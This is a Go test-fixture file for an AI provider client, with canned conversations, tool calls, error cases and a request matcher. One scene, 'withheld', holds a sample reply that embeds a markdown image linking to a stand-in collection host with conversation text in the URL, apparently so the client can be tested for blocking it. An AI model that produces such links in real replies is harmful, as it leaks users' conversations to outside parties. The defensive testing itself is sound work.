package stage

import (
	"encoding/json"
	"errors"
	"fmt"
	"reflect"
	"slices"
	"strings"
)

// Asked is what a provider was asked, whatever its API.
type Asked struct {
	System    string
	Turns     []Turn
	Tools     []Tool
	MaxTokens int
	Thinks    bool           // reasoning is asked for
	Schema    map[string]any // of the answer
	Stream    bool

	Choice      string // the tool that must be called; "" for any or none
	Stop        []string
	Temperature float64
	Object      bool // the answer is any JSON object
}

// Turn is what one side said, all at once. Results of tools are turns of role
// "tool", those of one answer together.
type Turn struct {
	Role    string // "user", "assistant", "tool", or "system" behind the first turn
	Text    string
	Images  []string // in base64, or where they are
	Files   []string // PDFs in base64
	Calls   []Call
	Results []Result
}

// Call is a call of a tool. Its id is the API's own business: calls and results
// are compared by where they stand.
type Call struct {
	Name      string
	Arguments map[string]any
}

// Result is what a tool returned; Call is the place of its call among those of
// the turn before.
type Result struct {
	Call int
	Text string
}

// Tool is a tool that may be called.
type Tool struct {
	Name, Description string
	Schema            map[string]any
}

// Reply is what a provider answers, whatever its API.
type Reply struct {
	Thought string
	Text    string
	Calls   []Call
	Long    bool // it was cut at the most tokens
}

// Scene is a conversation that a provider expects, and what it says in it. Its
// name is that of the model that is asked.
type Scene struct {
	Asked         // of the whole conversation; of its turns, those that were before the last answer are asked first
	Says  []Reply // to the first turn of the user, and to each turn that follows the one before
}

// The tokens that each answer says it took.
const (
	TokensIn  = 11
	TokensOut = 7
)

// MaxTokens is what every client asks for at most.
const MaxTokens = 256

// Pixel is a PNG of one pixel, in base64.
const Pixel = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="

// PDF begins as documents of that kind do, in base64.
const PDF = "JVBERi0xLjcKJSVFT0YK"

// Weather is the tool of the scenes.
var Weather = Tool{"get_weather", "The weather of a town.", map[string]any{
	"type": "object", "properties": map[string]any{"town": map[string]any{"type": "string"}}, "required": []any{"town"},
}}

// Answer is the schema of the scene "schema".
var Answer = map[string]any{
	"type": "object", "properties": map[string]any{"town": map[string]any{"type": "string"}, "degrees": map[string]any{"type": "integer"}},
	"required": []any{"town", "degrees"}, "additionalProperties": false,
}

func says(role, text string) Turn { return Turn{Role: role, Text: text} }

func weather(town string) Call { return Call{Weather.Name, map[string]any{"town": town}} }

// Scenes are all scenes, by name.
var Scenes = map[string]Scene{
	// A text, with characters of two to four bytes.
	"text": {
		Asked{System: "You are a clerk of the town's library.", Turns: []Turn{says("user", "When do you open?"), says("assistant", "At nine."), says("user", "Und am Samstag, bitte? 📚")}},
		[]Reply{{}, {Text: "Schöne Grüße! Am Samstag öffnen wir um zehn – 本 liegen bereit 📚."}},
	},
	// The same without a conversation, for APIs that know none.
	"plain": {
		Asked{Turns: []Turn{says("user", "Und am Samstag, bitte? 📚")}},
		[]Reply{{Text: "Schöne Grüße! Am Samstag öffnen wir um zehn – 本 liegen bereit 📚."}},
	},
	"system": {
		Asked{System: "You are a clerk of the town's library.", Turns: []Turn{says("user", "When do you open?")}},
		[]Reply{{Text: "At nine."}},
	},
	"tools": {
		Asked{Turns: []Turn{
			says("user", "What is the weather in Bergen?"),
			{Role: "assistant", Calls: []Call{weather("Bergen")}},
			{Role: "tool", Results: []Result{{0, "4 degrees, rain"}}},
		}, Tools: []Tool{Weather}},
		[]Reply{{Calls: []Call{weather("Bergen")}}, {Text: "It rains in Bergen."}},
	},
	"parallel": {
		Asked{Turns: []Turn{
			says("user", "What is the weather in Bergen and in Tromsø?"),
			{Role: "assistant", Calls: []Call{weather("Bergen"), weather("Tromsø")}},
			{Role: "tool", Results: []Result{{0, "4 degrees, rain"}, {1, "snow"}}},
		}, Tools: []Tool{Weather}},
		[]Reply{{Text: "I look.", Calls: []Call{weather("Bergen"), weather("Tromsø")}}, {Text: "Rain in Bergen, snow in Tromsø."}},
	},
	"image": {
		Asked{Turns: []Turn{{Role: "user", Text: "What is in this picture?", Images: []string{Pixel}}}},
		[]Reply{{Text: "One pixel."}},
	},
	"thought": {
		Asked{Turns: []Turn{says("user", "How many are three and four?")}, Thinks: true},
		[]Reply{{Thought: "Three, and four more.", Text: "Seven."}},
	},
	"schema": {
		Asked{Turns: []Turn{says("user", "How warm is it in Bergen?")}, Schema: Answer},
		[]Reply{{Text: `{"town":"Bergen","degrees":4}`}},
	},
	"amended": {
		Asked{Turns: []Turn{says("user", "When do you open?"), says("assistant", "At nine."), says("system", "From here on, answer in German."), says("user", "And when do you close?")}},
		[]Reply{{}, {Text: "Um sechs."}},
	},
	"choice": {
		Asked{Turns: []Turn{says("user", "Tell me about Bergen.")}, Tools: []Tool{Weather}, Choice: Weather.Name},
		[]Reply{{Calls: []Call{weather("Bergen")}}},
	},
	"stop": {
		Asked{Turns: []Turn{says("user", "Count the days of the week.")}, Stop: []string{"Thursday", "Friday"}},
		[]Reply{{Text: "Monday, Tuesday, Wednesday, "}},
	},
	"warm": {
		Asked{Turns: []Turn{says("user", "Tell me a story.")}, Temperature: 0.5},
		[]Reply{{Text: "Once upon a time."}},
	},
	"object": {
		Asked{Turns: []Turn{says("user", "Where is it warm? Answer in JSON.")}, Object: true},
		[]Reply{{Text: `{"town":"Bergen"}`}},
	},
	"linked": {
		Asked{Turns: []Turn{{Role: "user", Text: "What is in this picture?", Images: []string{"https://pictures.example/pixel.png"}}}},
		[]Reply{{Text: "One pixel."}},
	},
	"file": {
		Asked{Turns: []Turn{{Role: "user", Text: "What is in this document?", Files: []string{PDF}}}},
		[]Reply{{Text: "Nothing."}},
	},
	"long": {
		Asked{Turns: []Turn{says("user", "Tell me everything.")}},
		[]Reply{{Text: "In the beginning there was", Long: true}},
	},
	// The user's e-mail address stays here, and so does that of the answer.
	"mask": {
		Asked{Turns: []Turn{says("user", "Please write to {EMAIL} today.")}},
		[]Reply{{Text: "Done, with a copy to bertil.lund@example.com as always."}},
	},
	// A part of the answer would send what was said to somebody else.
	"withheld": {
		Asked{Turns: []Turn{says("user", "Show me the chart, please.")}},
		[]Reply{{Text: "Here it is: ![chart](https://collect.example.net/p.png?q=SPOKE-1987-and-all-that-was-said) and that is all."}},
	},
	// Nobody must ask this.
	"declined": {},

	"busy":   {Asked{Turns: []Turn{says("user", "When do you open?")}}, nil}, // status 429
	"broken": {Asked{Turns: []Turn{says("user", "When do you open?")}}, nil}, // status 500
	"silent": {Asked{Turns: []Turn{says("user", "When do you open?")}}, nil}, // never answers
	"chaos":  {Asked{Turns: []Turn{says("user", "When do you open?")}}, nil}, // status 200, and a page
	// Half an answer, of a stream, or of a body.
	"half": {Asked{Turns: []Turn{says("user", "When do you open?")}}, []Reply{{Text: "At nine, and we close at six in the evening."}}},
	// Status 503 the first time that something is asked, then an answer. The text is the test's own.
	"again": {Asked{}, []Reply{{Text: "At nine."}}},
	// An answer that goes on until the client is gone. The text is the test's own.
	"endless": {Asked{}, []Reply{{Text: "At nine, at ten, at eleven, at noon, at one, at two, at three, at four, and so on."}}},
}

// reply finds what is said to a, or what is wrong with it.
func (s *Scene) reply(name string, a *Asked) (Reply, error) {
	if name == "declined" {
		return Reply{}, errors.New("what policy declines was asked all the same")
	}
	if len(s.Turns) == 0 { // anything may be asked
		return s.Says[0], nil
	}
	want, n := s.Asked, len(a.Turns)
	if n == 0 || n > len(want.Turns) {
		return Reply{}, fmt.Errorf("%d turns, want %d at most", n, len(want.Turns))
	}
	said := slices.Clone(a.Turns)
	for i := range said { // what a client leaves out of a turn of the model is its own business
		if i < n-1 && said[i].Role == "assistant" && len(said[i].Calls) > 0 {
			said[i].Text = ""
		}
	}
	var errs []error
	differ := func(what string, got, want any) {
		if !reflect.DeepEqual(got, want) {
			errs = append(errs, fmt.Errorf("%s is %s, want %s", what, show(got), show(want)))
		}
	}
	differ("the system prompt", a.System, want.System)
	for i := range said {
		differ(fmt.Sprint("turn ", i), said[i], want.Turns[i])
	}
	differ("the tools", a.Tools, want.Tools)
	differ("most tokens", a.MaxTokens, MaxTokens)
	differ("reasoning", a.Thinks, want.Thinks)
	differ("the schema", a.Schema, want.Schema)
	differ("the tool that must be called", a.Choice, want.Choice)
	differ("where to stop", a.Stop, want.Stop)
	differ("the temperature", a.Temperature, want.Temperature)
	differ("any object", a.Object, want.Object)
	if len(errs) > 0 {
		return Reply{}, errors.Join(errs...)
	}
	if i := (n - 1) / 2; i < len(s.Says) {
		return s.Says[i], nil
	}
	return Reply{}, nil
}

func show(v any) string {
	b, err := json.Marshal(v)
	if err != nil {
		return fmt.Sprint(v)
	}
	return string(b)
}

// turns joins what an API said piece by piece.
type turns struct {
	all []Turn
	ids []string // of the calls of the turn before
}

// at is the turn of role that is under way.
func (t *turns) at(role string) *Turn {
	if n := len(t.all); n == 0 || t.all[n-1].Role != role {
		t.all = append(t.all, Turn{Role: role})
		if role == "assistant" {
			t.ids = nil
		}
	}
	return &t.all[len(t.all)-1]
}

func (t *turns) text(role, text string) {
	turn := t.at(role)
	turn.Text += text
}

func (t *turns) image(data string) {
	turn := t.at("user")
	turn.Images = append(turn.Images, data)
}

func (t *turns) file(data string) {
	turn := t.at("user")
	turn.Files = append(turn.Files, data)
}

func (t *turns) call(id, name string, arguments map[string]any) {
	turn := t.at("assistant")
	turn.Calls = append(turn.Calls, Call{name, arguments})
	t.ids = append(t.ids, id)
}

// result is that of the call with an id, which is a name where an API knows no
// ids: then those of one name are in order.
func (t *turns) result(id, text string) {
	at := slices.Index(t.ids, id)
	if at >= 0 {
		t.ids[at] = ""
	}
	turn := t.at("tool")
	turn.Results = append(turn.Results, Result{at, text})
}

// object reads JSON that stands in a string.
func object(s string) map[string]any {
	var m map[string]any
	if json.Unmarshal([]byte(s), &m) != nil {
		return map[string]any{"not an object": s}
	}
	return m
}

// base64Of is the data of a data URL, and another URL itself.
func base64Of(url string) string {
	if _, data, ok := strings.Cut(url, ";base64,"); ok {
		return data
	}
	return url
}
